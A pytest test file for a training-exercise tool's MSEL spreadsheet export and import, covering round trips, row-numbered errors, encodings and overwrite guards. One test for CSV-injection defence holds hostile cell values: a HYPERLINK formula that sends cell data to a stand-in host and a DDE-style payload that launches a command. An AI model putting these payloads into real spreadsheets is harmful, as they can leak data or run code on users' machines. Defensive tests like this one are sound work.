"""``exercise-engine msel``: the MSEL as a spreadsheet and back, losing nothing.

Every bundled scenario goes out to CSV and back in, and comes back the same:
same injects (ids, times, audiences, everything else), same order, same setting. A spreadsheet
made by hand (other headers, ``;`` separators, no trigger columns) imports too; a bad row is
named by its row number and nothing is written.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from exercise_engine.authoring.msel import column_key, export_rows, read_rows, write_csv
from exercise_engine.loading import load_scenario
from tests.conftest import REPO, run_cli
from tests.engine_helpers import scenario_from

SCENARIOS = sorted((REPO / "scenarios").glob("*.toml"))


def _export(tmp_path: Path, scenario: str) -> Path:
    out = tmp_path / "msel.csv"
    result = run_cli("msel", "export", scenario, "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


def _write(path: Path, rows: list[list[str]], delimiter: str = ",") -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream, delimiter=delimiter).writerows(rows)
    return path


@pytest.mark.parametrize("path", SCENARIOS, ids=lambda p: p.stem)
def test_round_trip_keeps_every_inject(path: Path, tmp_path: Path) -> None:
    original = load_scenario(path)  # a bundled scenario that does not load is a failure here too
    sheet = _export(tmp_path, str(path))
    result = run_cli(
        "msel", "import", str(sheet), "--scenario", str(path), "--out", str(tmp_path / "out")
    )
    assert result.returncode == 0, result.stdout + result.stderr
    back = load_scenario(tmp_path / "out" / path.name)
    assert list(back.injects) == list(original.injects)
    for iid, inject in original.injects.items():
        assert back.injects[iid] == inject, iid
        assert back.audience(back.injects[iid]) == original.audience(inject)
    same = {"injects": (), "inject": ()}
    assert back.file.model_copy(update=same) == original.file.model_copy(update=same)


def test_export_has_hseep_columns_first_and_times(tmp_path: Path) -> None:
    rows = _rows(_export(tmp_path, "tutorial"))
    assert rows[0][:11] == [
        "Time",
        "Scenario time",
        "Inject ID",
        "Title",
        "Channel",
        "Sender",
        "Audience",
        "Synopsis",
        "Decision points",
        "Considerations",
        "Expected action",
    ]
    by_id = {row[2]: row for row in rows[1:]}
    # tut-03 comes 5 minutes after tut-02 (00:10): planned at 00:15, 06:15 on the scenario clock
    assert by_id["tut-03"][:2] == ["00:15", "2024-03-12 06:15"]
    assert by_id["tut-03"][11:14] == ["", "tut-02", "00:05"]  # At, After, After delay
    assert by_id["tut-02"][6] == "force_commander; hom"
    assert by_id["tut-01"][6] == "all"
    assert by_id["tut-02"][8].startswith("posture (force_commander, within 00:15): How should")
    assert "uof.deter" in by_id["tut-02"][9]
    assert by_id["tut-07"][16] == "yes"  # manual
    assert by_id["tut-06"][0] == ""  # phase-bound: no planned time


def test_bad_rows_are_named_by_row_number_and_nothing_is_written(tmp_path: Path) -> None:
    rows = _rows(_export(tmp_path, "tutorial"))
    rows[3][11] = "00:75"  # row 4: an impossible time in At
    rows[5][6] = "dsrsg_rchc; force_comander"  # row 6 (tut-08): a misspelt role
    rows[2][16] = "maybe"  # row 3: Manual neither yes nor no
    rows[6][19] = '[{"id": "x"'  # row 7: broken JSON
    _write(tmp_path / "bad.csv", rows)
    out = tmp_path / "out"
    args = ("msel", "import", "bad.csv", "--scenario", "tutorial", "--out", "out")
    result = run_cli(*args, cwd=tmp_path)
    assert result.returncode == 2
    lines = result.stderr.splitlines()
    assert lines[:4] == [
        "bad.csv:row 3: manual: expected yes or no, got 'maybe'",
        "bad.csv:row 4: at: impossible time '00:75': minutes and seconds run from 00 to 59",
        "bad.csv:row 6: audience[1]: unknown role 'force_comander' (did you mean 'force_commander'?)",
        "bad.csv:row 7: decisions: not valid JSON (Expecting ',' delimiter at column 12)",
    ]
    assert not out.exists()


def test_a_hand_made_spreadsheet_imports(tmp_path: Path) -> None:
    scenario_from(tmp_path, "")  # mini.toml: roles hom, force_commander, police_commissioner
    rows = [
        ["Time", "ID", "Title", "Method", "From", "To", "Synopsis", "Notes"],
        ["00:00", "k-01", "Market opens", "meeting", "CoS office", "all", "The day starts."],
        ["00:10", "k-02", "Crowds", "jocs_flash", "JOC", "hom, force_commander", "Crowds form."],
    ]
    _write(tmp_path / "plan.csv", rows, delimiter=";")
    args = ("msel", "import", "plan.csv", "--scenario", "mini.toml", "--out", "out")
    result = run_cli(*args, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "plan.csv:row 1: warning: column 'Notes' is not one this tool reads" in result.stderr
    back = load_scenario(tmp_path / "out" / "mini.toml")
    assert list(back.injects) == ["k-01", "k-02"]
    assert back.injects["k-02"].at == 600  # no At column: Time is the delivery time
    assert back.injects["k-02"].body == "Crowds form."  # no Body column: the synopsis
    assert back.injects["k-02"].to == ("hom", "force_commander")


def test_file_column_splits_injects_into_library_files(tmp_path: Path) -> None:
    rows = _rows(_export(tmp_path, "tutorial"))
    for row in rows[1:4]:
        row[20] = "01-morning.toml"
    sheet = _write(tmp_path / "split.csv", rows)
    out = tmp_path / "out"
    result = run_cli("msel", "import", str(sheet), "--scenario", "tutorial", "--out", str(out))
    assert result.returncode == 0, result.stdout
    assert (out / "injects" / "01-morning.toml").is_file()
    back = load_scenario(out / "tutorial.toml")
    assert back.file.injects == ("injects/*.toml",)
    assert back.inject_files["tut-02"].endswith("injects/01-morning.toml")
    assert set(back.injects) == set(load_scenario(REPO / "scenarios" / "tutorial.toml").injects)


def test_missing_columns_and_existing_output_are_refused(tmp_path: Path) -> None:
    sheet = _write(tmp_path / "thin.csv", [["Inject ID", "Title"], ["a", "A"]])
    out = tmp_path / "out"
    thin = run_cli("msel", "import", str(sheet), "--scenario", "tutorial", "--out", str(out))
    assert thin.returncode == 2
    assert "thin.csv:row 1: missing column 'Channel'" in thin.stderr
    assert not out.exists()

    good = _export(tmp_path, "tutorial")
    args = ("msel", "import", str(good), "--scenario", "tutorial", "--out", str(out))
    assert run_cli(*args).returncode == 0
    again = run_cli(*args)
    assert again.returncode == 2 and "add --overwrite" in again.stderr
    assert run_cli(*args, "--overwrite").returncode == 0
    own = run_cli("msel", "import", str(good), "--scenario", "tutorial", "--out", "scenarios")
    assert own.returncode == 2 and "import into a new folder" in own.stderr


@pytest.mark.parametrize(
    ("header", "key"),
    [
        ("Inject ID", "inject_id"),
        ("Variants (JSON)", "variants"),
        ("  scenario date-time ", "scenario_time"),
        ("To", "audience"),
        ("From", "sender"),
        ("After delay", "after_delay"),
    ],
)
def test_headers_are_matched_loosely(header: str, key: str) -> None:
    assert column_key(header) == key


def test_export_to_stdout_reads_back() -> None:
    result = run_cli("msel", "export", "tutorial")
    assert result.returncode == 0
    sheet = read_rows(result.stdout)
    assert [row["inject_id"] for _n, row in sheet.rows][:2] == ["tut-01", "tut-02"]
    assert sheet.rows[0][0] == 2  # row 1 is the header


def test_write_csv_quotes_multiline_bodies() -> None:
    stream = io.StringIO()
    write_csv(export_rows(load_scenario(REPO / "scenarios" / "tutorial.toml")), stream)
    assert '"A trader from the eastern quarter' in stream.getvalue()


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised_and_round_trip(
    tmp_path: Path,
) -> None:
    """CSV injection: a title or body starting with = + - @ (or tab, CR) is exported with the
    ' prefix spreadsheets read as text, and import takes the prefix off again."""
    hostile = {
        "tut-01": '=HYPERLINK("http://x.example/?"&A1,"click")',
        "tut-02": "+1+cmd|' /C calc'!A0",
        "tut-03": "-2+3",
        "tut-05": "@SUM(1,1)",
        "tut-06": "'=already quoted",
    }
    text = (REPO / "scenarios" / "tutorial.toml").read_text(encoding="utf-8")
    for iid, title in hostile.items():
        start = text.index(f'id = "{iid}"')
        end = text.index("\n", text.index("title = ", start))
        text = (
            text[:start] + text[start:end].split("title = ")[0] + f"title = {title!r}" + text[end:]
        )
    (tmp_path / "s.toml").write_text(text.replace("title = '", "title = '"), encoding="utf-8")
    original = load_scenario(tmp_path / "s.toml")
    assert original.injects["tut-01"].title == hostile["tut-01"]
    sheet = tmp_path / "msel.csv"
    assert run_cli("msel", "export", str(tmp_path / "s.toml"), "--out", str(sheet)).returncode == 0
    titles = {row[2]: row[3] for row in _rows(sheet)[1:]}
    for iid, title in hostile.items():
        assert titles[iid] == "'" + title, iid  # shown as text, never run
    result = run_cli(
        "msel",
        "import",
        str(sheet),
        "--scenario",
        str(tmp_path / "s.toml"),
        "--out",
        "out",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    assert "formula" not in result.stderr  # guarded cells are not warned about
    back = load_scenario(tmp_path / "out" / "s.toml")
    assert {iid: back.injects[iid].title for iid in hostile} == hostile

    rows = _rows(sheet)
    rows[1][3] = "=1+1"  # a hand-edited cell, unguarded
    _write(tmp_path / "edited.csv", rows)
    edited = run_cli(
        "msel", "import", "edited.csv", "--scenario", "s.toml", "--out", "out2", cwd=tmp_path
    )
    assert edited.returncode == 0, edited.stderr
    assert "edited.csv:row 2: title: warning: the 'Title' cell starts with '='" in edited.stderr


def test_export_refuses_to_overwrite_without_the_flag(tmp_path: Path) -> None:
    out = tmp_path / "msel.csv"
    out.write_text("my own notes", encoding="utf-8")
    refused = run_cli("msel", "export", "tutorial", "--out", str(out))
    assert refused.returncode == 2
    assert "already exists: add --overwrite to replace it" in refused.stderr
    assert out.read_text(encoding="utf-8") == "my own notes"
    assert run_cli("msel", "export", "tutorial", "--out", str(out), "--overwrite").returncode == 0
    folder = run_cli("msel", "export", "tutorial", "--out", str(tmp_path))
    assert folder.returncode == 2 and "is a folder: --out takes a file name" in folder.stderr


def test_a_cp1252_sheet_is_named_by_row_with_the_fix(tmp_path: Path) -> None:
    rows = _rows(_export(tmp_path, "tutorial"))
    rows[3][3] = "Café des Amis"  # row 4
    with (tmp_path / "excel.csv").open("w", encoding="cp1252", newline="") as stream:
        csv.writer(stream).writerows(rows)
    result = run_cli(
        "msel", "import", "excel.csv", "--scenario", "tutorial", "--out", "out", cwd=tmp_path
    )
    assert result.returncode == 2
    assert "excel.csv:row 4: not UTF-8 text: save the sheet as 'CSV UTF-8'" in result.stderr
    assert "Traceback" not in result.stderr


def test_an_msel_of_another_scenario_is_named(tmp_path: Path) -> None:
    sheet = _export(tmp_path, "minusca-bambari")
    result = run_cli(
        "msel", "import", str(sheet), "--scenario", "tutorial", "--out", "out", cwd=tmp_path
    )
    assert result.returncode == 2
    assert (
        "this MSEL was exported from scenario 'minusca-bambari', not 'tutorial':"
        " give --scenario minusca-bambari"
    ) in result.stderr
    assert len(result.stderr.splitlines()) == 2  # that line and the verdict, not 100 knock-ons


def test_problems_outside_the_rows_cite_the_scenario_never_a_scratch_folder(
    tmp_path: Path,
) -> None:
    rows = _rows(_export(tmp_path, "tutorial"))
    rows = [row for row in rows if row[2] != "tut-04"]  # an objective names a point of tut-04
    _write(tmp_path / "short.csv", rows)
    result = run_cli(
        "msel", "import", "short.csv", "--scenario", "tutorial", "--out", "out", cwd=tmp_path
    )
    assert result.returncode == 2
    assert "tutorial.toml: objectives[0].points[1]: unknown decision point 'tut-04/intervene'" in (
        result.stderr
    )
    # the scenario is cited where it lives (the checkout, which may itself be under /tmp);
    # no scratch folder of the import is ever named
    cited_elsewhere = result.stderr.replace(str(REPO), "<checkout>")
    assert "msel-" not in cited_elsewhere and "/tmp" not in cited_elsewhere
